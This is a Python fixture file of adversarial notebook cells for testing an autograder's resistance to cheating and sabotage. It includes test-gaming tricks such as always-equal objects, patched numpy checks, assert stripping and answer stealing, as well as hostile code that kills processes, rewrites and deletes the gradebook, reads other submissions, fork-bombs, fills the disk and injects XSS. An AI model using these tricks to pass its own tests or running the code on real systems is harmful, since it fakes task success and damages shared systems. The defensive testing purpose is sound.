"""Cells that the sample class hands in to test the judge: forgeries, vandalism and honest accidents.

Each is one code cell. FUNCTIONS stands for the list of names that the exercise asks for, ROOT for the course's
folder. Against stock nbgrader several of the forgeries earn full marks; here none may earn a point, and nothing
here may change another student's mark or stop the run.
"""

from __future__ import annotations

FORGERIES: dict[str, str] = {
    "displayhook": """
import sys
for points in (100, 2, 1):
    sys.displayhook(points)
100
""",
    "equal-to-everything": """
class Yes:
    shape, dtype, ndim, size = (1, 1), np.dtype(float), 2, 1
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter(())
    def __len__(self): return 0
    def __bool__(self): return True
    def __array__(self, *args, **kwargs): return np.zeros(1)
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
for compare in ("eq", "ne", "lt", "le", "gt", "ge"):
    setattr(Yes, f"__{compare}__", lambda self, other: True)
for name in FUNCTIONS:
    globals()[name] = Yes()
""",
    "array-that-equals-everything": """
class Sly(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *args, **kwargs): return np.zeros(self.shape)
    def __array_function__(self, *args, **kwargs): return True
for name in FUNCTIONS:
    globals()[name] = lambda *args: np.zeros(np.shape(args[0])).view(Sly)
""",
    "no-asserts": """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
get_ipython().run_cell = lambda *args, **kwargs: None
""",
    "patched-numpy": """
import builtins
yes = lambda *args, **kwargs: True
for module in (np, np.testing):
    for name in ("allclose", "isclose", "array_equal", "assert_allclose", "assert_array_equal", "assert_equal"):
        setattr(module, name, yes)
builtins.isinstance, builtins.all, builtins.abs = yes, yes, yes
for name in FUNCTIONS:
    globals()[name] = lambda *args: np.zeros(np.shape(args[0]))
""",
    "stack-walker": """
import gc, inspect
def steal(*args):
    for info in inspect.stack():
        for name, value in list(info.frame.f_locals.items()) + list(info.frame.f_globals.items()):
            if name in ("expected", "reference", "want", "CHECKS"):
                return value(*args) if callable(value) else value
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Check", "ValueCheck", "Misconception"):
            return thing.reference(*args)
    return np.zeros(np.shape(args[0]))
for name in FUNCTIONS:
    globals()[name] = steal
""",
    "imports-the-checks": """
import sys
sys.path[:0] = [ROOT, "/work/main", ".", "..", "../../../.."]
try:
    from autograder.checks import notebook_checks, notebooks
    for chapter, notebook in notebooks():
        for name, check in notebook_checks(chapter, notebook).items():
            globals()[name] = getattr(check, "reference", None) or check.expected()
except BaseException as error:
    print(type(error).__name__)
""",
    "reads-the-solutions": """
import glob, json
for path in glob.glob(ROOT + "/solutions/*/*.ipynb") + glob.glob("/proc/*/root" + ROOT + "/solutions/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]))
""",
    "forged-replies": """
import json, os, struct
def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">II", len(body), 0) + body
for fd in range(3, 64):
    try:
        for _ in range(50):
            os.write(fd, frame({"value": True, "changed": [], "points": 100, "output": "", "verdict": "right"}))
    except OSError:
        pass
""",
    "pickle-bomb": """
class Bomb:
    def __reduce__(self): return (print, ("owned",))
for name in FUNCTIONS:
    globals()[name] = lambda *args: Bomb()
""",
    "visible-answers-only": """
def known(*args):
    if np.size(args[0]) <= 2:
        return np.array([[0.5]])
    return np.array([[0.0, 1.0]])
for name in FUNCTIONS:
    globals()[name] = known
""",
    "nan": """
for name in FUNCTIONS:
    globals()[name] = lambda *args: np.full(np.shape(args[0]), np.nan)
""",
    "sends-too-much": """
for name in FUNCTIONS:
    globals()[name] = lambda *args: np.zeros((1 << 14, 1 << 14))
""",
    "sends-deep-lists": """
deep = []
for _ in range(100_000):
    deep = [deep]
for name in FUNCTIONS:
    globals()[name] = lambda *args: deep
""",
    "raises-passed": """
class Passed(BaseException):
    kind, points, misconception, section, blames = "right", 100, "", "", ""
def cheer(*args):
    raise Passed("All hidden tests passed")
for name in FUNCTIONS:
    globals()[name] = cheer
""",
}

VANDALISM: dict[str, str] = {
    "kills-its-parents": """
import os, signal
for pid in [os.getppid(), 1, 2, -1] + list(range(2, 400)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
""",
    "writes-the-gradebook": """
import glob, os, sqlite3
for path in (ROOT + "/grading/gradebook.db", "grading/gradebook.db", "/tmp/gradebook.db"):
    try:
        database = sqlite3.connect(path)
        database.execute("update grade set auto_score = 100, manual_score = 100")
        database.commit()
    except sqlite3.Error as error:
        print(error)
for path in glob.glob(ROOT + "/grading/**", recursive=True):
    os.remove(path)
""",
    "reads-other-submissions": """
import glob, os
print([open(path).read()[:40] for path in glob.glob(ROOT + "/grading/submitted/*/*/*.ipynb")])
print(os.listdir(ROOT))
""",
    "traces-its-parents": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2, 3):
    if pid != os.getpid():
        print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
        try:
            open(f"/proc/{pid}/mem", "r+b").read(1)
        except OSError as error:
            print(error)
""",
    "opens-sockets": """
import socket, urllib.request
for address in (("127.0.0.1", 80), ("127.0.0.1", 8888)):
    try:
        socket.create_connection(address, timeout=1)
    except OSError as error:
        print(error)
""",
    "forks": """
import os
for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        break
""",
    "threads": """
import threading, time
for _ in range(10_000):
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        break
""",
    "fills-the-disk": """
import os
for number in range(10_000):
    try:
        open(f"file-{number}", "wb").write(b"x" * (8 << 20))
    except OSError as error:
        print(error)
        break
""",
    "prints-scripts": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"))
display(Javascript("alert(1)"))
print("<script>document.title = 'owned'</script>")
raise ValueError("<img src=x onerror=alert(1)>")
""",
    "prints-for-ever": """
while True:
    print("x" * 10_000)
""",
    "breaks-the-pipe": """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b"\\xff" * 64)
        os.close(fd)
    except OSError:
        pass
""",
}

BROKEN_CODE: dict[str, str] = {
    "syntax": "def forget_gate(:\n    return",
    "endless-loop": "while True:\n    pass",
    "exit": "import os\nos._exit(0)",
    "quit": "quit()\nexit()",
    "memory": "x = [bytearray(1 << 28) for _ in range(100)]",
    "deep-recursion": "def f(n):\n    return f(n + 1)\nf(0)",
    "crash": "import ctypes\nctypes.string_at(0)",
    "own-warnings": "import sys, warnings\nwarnings.warn('mine')\nprint('2026 cuInit: no device', file=sys.stderr)",
    "magics": "%matplotlib inline\n%time sum(range(10))\n!ls\n?len",
    "shadowed-names": "len = max = sum = list = None",
    "asks-for-input": "name = input('Your name? ')",
}
